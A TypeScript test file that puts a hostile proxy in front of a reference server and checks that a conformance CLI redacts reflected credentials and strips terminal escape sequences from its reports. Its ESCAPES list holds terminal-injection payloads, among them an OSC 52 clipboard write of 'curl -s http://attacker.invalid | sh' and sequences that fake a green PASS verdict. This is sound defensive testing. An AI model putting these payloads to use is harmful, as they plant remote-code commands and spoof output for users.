import type { IncomingHttpHeaders } from 'node:http';
import { expect, test } from 'vitest';
import { startReferenceServer } from '../../fixtures/server/index.ts';
import { answerProxy, jsonObjectOf, learnMinted, mintedSecrets, outputsOf } from '../cli/leak-support.ts';
import { cli as runCli, fullRunOf, matrixOf, reportDir } from '../cli/run-cli.ts';

const FRAGMENT = 8;
/** The areas run: credentials on every path (failures quoting error bodies), info, and intents (setup steps, cleanup). */
const AREAS = 'OA-AUTH-|Q-AUTH-|Q-DIST-|Q-INFO-|OA-INT-';

/** What a hostile target writes for a terminal to obey. */
const ESCAPES = [
  '\x1b[2J\x1b[H', // clear the screen
  '\x1b[1;32mConformance PASS\x1b[0m', // a fake verdict in green
  '\x1b]0;conformance: all checks passed\x07', // the window title
  `\x1b]52;c;${Buffer.from('curl -s http://attacker.invalid | sh').toString('base64')}\x07`, // OSC 52: the clipboard
  '\rConformance PASS                    ', // a carriage return over the line
  '\u202eSSAP\u202c', // a bidi override
  '\u009b2J', // C1 CSI: clear the screen on terminals that honour 8-bit controls
].join('');

/** Raw characters that must reach no output: C0 but tab and newline, DEL, C1, bidi embeddings, overrides, isolates. */
const RAW_CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/;

/** The credentials a request carries: service and API keys, a bearer token, `?auth=`. */
function credentialsOf(url: string, headers: IncomingHttpHeaders): string[] {
  const found = [
    headers['x-service-key'],
    headers['x-api-key'],
    headers.authorization?.replace(/^Bearer\s+/i, ''),
    new URL(url, 'http://x').searchParams.get('auth') ?? undefined,
  ];
  return found.filter((v): v is string => typeof v === 'string' && v.length >= FRAGMENT);
}

/**
 * The error body with every credential reflected: whole and its first 26 characters in the message, and one more
 * placed to straddle character 300 of the serialised body (what a setup-failed message keeps); escape sequences in the
 * message, and in the code unless it must stay one the documents list.
 */
function hostileError(body: Record<string, unknown>, reflected: string[], keepCode: boolean): Record<string, unknown> {
  const error = typeof body.error === 'object' && body.error !== null ? (body.error as Record<string, unknown>) : body;
  const said = String(error.message ?? 'refused');
  if (!keepCode) error.code = `${String(error.code ?? 'ERROR')}${ESCAPES.slice(0, 24)}`;
  error.message = '@@';
  const at = JSON.stringify(body).indexOf('@@');
  const cut = `${'.'.repeat(Math.max(0, 300 - 13 - at))}${reflected[0] ?? ''}`; // 13 characters of it before the cut
  error.message = `${cut} ${said}: ${reflected.map((s) => `credential ${s} (starts ${s.slice(0, 26)})`).join(', ')} ${ESCAPES}`;
  return body;
}

/**
 * A proxy in front of the reference server: the control API passes through (the proxy learns the secrets minted
 * there); every other error answer in JSON is rewritten by `hostileError` with the request's credentials and the
 * run's `secrets`, and /api/v1/info gains a field of escapes and secrets.
 */
function hostileProxy(upstream: string, controlPrefix: string, known: Set<string>, secrets: string[]) {
  return answerProxy(upstream, (req, sent, { status, headers, raw }) => {
    const url = req.url ?? '/';
    let json = /json/.test(String(headers['content-type'])) ? jsonObjectOf(raw) : undefined;
    // A refused setup step, with a code the documents list: the checks that create an oco order end setup-failed,
    // quoting the body cut at 300 characters.
    const refused = req.method === 'POST' && /^\/orders\/intent\b/.test(url) && jsonObjectOf(sent)?.orderType === 'oco';
    if (refused) {
      status = 403;
      json = { success: false, error: { code: 'PRODUCT_DISABLED', message: 'refused' } };
    }
    if (url.startsWith(controlPrefix)) learnMinted(json, known);
    else if (json && status >= 400)
      raw = Buffer.from(JSON.stringify(hostileError(json, [...new Set([...credentialsOf(url, req.headers), ...secrets])], refused)));
    else if (json && /\/api\/v1\/info(\?|$)/.test(url))
      raw = Buffer.from(JSON.stringify({ ...json, notice: `${ESCAPES} ${secrets.join(' ')}` }));
    return { status, headers, raw };
  });
}

/** NO_COLOR: vitest's own colours off, so that any escape sequence in the output could only be the target's. */
const cli = (args: string[], env: NodeJS.ProcessEnv) => runCli(args, { NO_COLOR: '1', ...env });

/** Where in `text` a run of FRAGMENT characters of a secret stands, and of which: one pass with a set of windows. */
function fragmentsIn(text: string, windows: Map<string, string>): string[] {
  const found = new Set<string>();
  for (let i = 0; i + FRAGMENT <= text.length; i++) {
    const name = windows.get(text.slice(i, i + FRAGMENT));
    if (name) found.add(`${name} "${text.slice(i, i + 3)}…"`);
  }
  return [...found];
}

test('a target that reflects credentials in pieces and writes escape sequences: no secret fragment, no raw control character in any output', async () => {
  const server = await startReferenceServer({ port: 0 });
  let proxy: Awaited<ReturnType<typeof hostileProxy>> | undefined;
  try {
    const secrets = await mintedSecrets(server.controlUrl);
    // The target reflects the run's keys; it is handed the wallet secret too, the worst case of a reflection.
    const known = new Set(Object.values(secrets));
    proxy = await hostileProxy(server.baseUrl, new URL(server.controlUrl).pathname, known, Object.values(secrets));
    const via = (url: string) => url.replace(server.baseUrl, proxy!.url);
    const dir = reportDir('conformance-hostile-');
    const r = await cli(
      [
        ...fullRunOf({ ordersUrl: via(server.ordersUrl), quotesUrl: via(server.quotesUrl), controlUrl: via(server.controlUrl) }),
        '--gateway-url',
        via(server.gatewayUrl),
        '--seed',
        '12',
        '--report-dir',
        dir,
        '--grep',
        AREAS,
      ],
      secrets,
    );
    expect(r.code, r.stdout.slice(-3000) + r.stderr.slice(-3000)).toBe(1);

    const outputs = outputsOf(r, dir);
    expect(outputs.map(([name]) => name)).toEqual(expect.arrayContaining(['matrix.json', 'matrix.md', 'matrix.html', 'junit.xml']));
    expect(outputs.some(([name]) => name.startsWith('allure-results/'))).toBe(true);

    // The reflections reached the reports, redacted, and the escapes shown as text: the test judged real traffic.
    const m = matrixOf(dir);
    const messages = m.checks.map((c) => c.message ?? '').join('\n');
    expect(m.checks.filter((c) => c.verdict === 'fail').length).toBeGreaterThan(20);
    // A setup step's body cut at 300 characters, 13 characters into a key: the piece is redacted as a part.
    const setupFailed = m.checks.filter((c) => c.verdict === 'setup-failed').map((c) => c.message ?? '');
    expect(
      setupFailed.some((msg) => /\.{8}\[part of \$[A-Z_]+\]/.test(msg)),
      setupFailed.join('\n'),
    ).toBe(true);
    expect(r.stdout).toMatch(/^ {2}SETUP-FAILED .*\.{8}\[part of \$[A-Z_]+\]/m); // the CLI's summary quotes it
    expect(messages).toMatch(/\[part of \$[A-Z_]+\]/);
    expect(messages).toMatch(/\$(ORDERS_API_KEY|PROVISIONED_ORDERS_KEY)\b/);
    expect(messages).toMatch(/\\(x1b|u001b)\]0;/); // a window title, shown as text (JSON.stringify of a body writes \u001b)
    expect(messages).toContain('\\x9b2J'); // a C1 CSI, which JSON.stringify leaves raw
    expect(JSON.stringify(m.run.target.info)).toContain('\\x1b[2J');
    expect(known.size, 'secrets the run minted through the control API').toBeGreaterThan(Object.keys(secrets).length);

    const windows = new Map<string, string>();
    const names = new Map([...known].map((v) => [v, 'minted during the run']));
    for (const [name, value] of Object.entries(secrets)) names.set(value, name);
    for (const [value, name] of names) for (let i = 0; i + FRAGMENT <= value.length; i++) windows.set(value.slice(i, i + FRAGMENT), name);
    const leaks = outputs.flatMap(([where, text]) => fragmentsIn(text, windows).map((f) => `${f} in ${where}`));
    expect(leaks).toEqual([]);
    const raw = outputs
      .filter(([, text]) => RAW_CONTROL.test(text))
      .map(
        ([where, text]) =>
          `${where}: ${JSON.stringify(text.slice(Math.max(0, text.search(RAW_CONTROL) - 40), text.search(RAW_CONTROL) + 20))}`,
      );
    expect(raw).toEqual([]);
  } finally {
    await proxy?.close();
    await server.close();
  }
}, 300_000);
